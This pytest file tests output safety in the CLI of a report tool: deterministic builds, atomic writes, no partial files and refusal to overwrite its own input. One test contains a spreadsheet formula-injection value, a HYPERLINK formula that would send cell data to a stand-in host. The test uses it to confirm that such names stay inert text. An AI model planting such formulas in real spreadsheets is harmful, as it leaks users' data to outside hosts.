"""Output safety through the CLI: all-or-nothing builds, no partial files, same bytes for the same input."""

from __future__ import annotations

import hashlib
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from ledger_report.cli import main
from ledger_report.errors import LedgerError

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture()
def small_csv(tmp_path):
    rows = (ROOT / "inputs" / "examples.csv").read_text(encoding="utf-8").splitlines()
    p = tmp_path / "small.csv"
    p.write_text("\n".join(rows[:3]) + "\n", encoding="utf-8")  # header + two Qwen3-8B rows
    return p


def _digest(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir())}


@pytest.mark.slow
def test_same_input_same_bytes_in_all_three_formats(small_csv, tmp_path):
    """Reliability DET-01: two builds of the same input give byte-identical .xlsx, .pdf and .json."""
    a, b = tmp_path / "a", tmp_path / "b"
    for out in (a, b):
        r = CliRunner().invoke(main, ["build", str(small_csv), "-o", str(out), "-q"])
        assert r.exit_code == 0, r.output
    da, db = _digest(a), _digest(b)
    assert set(da) == {"small.xlsx", "small.pdf", "small.json"}
    assert da == db


@pytest.mark.slow
def test_failed_build_leaves_earlier_outputs_byte_identical(small_csv, tmp_path, monkeypatch):
    """Reliability OUT-01/02: the PDF step fails after the workbook was rendered: nothing is replaced, no temp file is left."""
    out = tmp_path / "out"
    assert CliRunner().invoke(main, ["build", str(small_csv), "-o", str(out), "-q"]).exit_code == 0
    before = _digest(out)

    import ledger_report.render.handout as handout

    def broken(*a, **k):
        raise LedgerError("the handout could not be rendered (simulated)")

    monkeypatch.setattr(handout, "render_pdf", broken)
    small_csv.write_text(
        small_csv.read_text().replace("0.4", "0.3"), encoding="utf-8"
    )  # new figures would differ
    r = CliRunner().invoke(main, ["build", str(small_csv), "-o", str(out)])
    assert r.exit_code == 1 and "simulated" in r.output and "Traceback" not in r.output
    assert _digest(out) == before
    assert not [p for p in out.iterdir() if p.name.endswith(".tmp")]


def test_bad_input_writes_nothing(tmp_path):
    """Bad input exits 1 and creates no output folder or file."""
    p = tmp_path / "bad.csv"
    p.write_text("name,dp\nx,-1\n", encoding="utf-8")
    out = tmp_path / "out"
    r = CliRunner().invoke(main, ["build", str(p), "-o", str(out)])
    assert r.exit_code == 1 and "dp" in r.output
    assert not out.exists()


def test_build_refuses_to_write_over_its_own_input(tmp_path):
    """Reliability OUT-03: building out/x.xlsx from out/x.xlsx is refused before any work; the input is untouched."""
    src = tmp_path / "x.xlsx"
    src.write_bytes((ROOT / "inputs" / "examples.xlsx").read_bytes())
    shutil.copytree(
        ROOT / "inputs" / "configs", tmp_path / "configs"
    )  # the config.json a row names, beside the copy
    before = src.read_bytes()
    r = CliRunner().invoke(main, ["build", str(src), "-o", str(tmp_path), "--format", "xlsx"])
    assert r.exit_code == 1 and "x.xlsx" in r.output
    assert src.read_bytes() == before


def test_formula_text_in_names_stays_text_in_json(tmp_path):
    """Reliability INJ-01: a name like =HYPERLINK(...) is plain text in the JSON document."""
    import json

    p = tmp_path / "inj.csv"
    p.write_text(
        'name,params_total\n"=HYPERLINK(""http://x/?""&A1,""x"")",7B\n"@SUM(1,1)",7B\n',
        encoding="utf-8",
    )
    r = CliRunner().invoke(main, ["calc", str(p), "--json"])
    assert r.exit_code == 0, r.output
    names = [c["name"] for c in json.loads(r.stdout)["configs"]]
    assert names == ['=HYPERLINK("http://x/?"&A1,"x")', "@SUM(1,1)"]
